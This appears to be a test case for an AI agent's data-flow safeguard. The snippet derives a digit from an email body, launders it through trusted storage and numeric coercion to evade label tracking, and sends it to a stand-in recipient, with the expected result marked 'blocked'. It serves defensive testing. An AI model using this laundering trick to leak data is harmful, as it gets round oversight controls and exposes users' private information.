// attack: an array holding one of the email's digits (raw, only its structure labeled), stored in trusted data and read back as a trusted reference, then turned into a number by unary + and ++
// normal: blocked
const m = await getEmail('m1');
const u = await me();
const d = m.body.length % 10;
u.k = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9].slice(d, d + 1);
let n = u.k;
n++;
await sendEmail({ to: ['omar@northwind.test'], subject: 'n', body: String(+u.k) + String(n) });
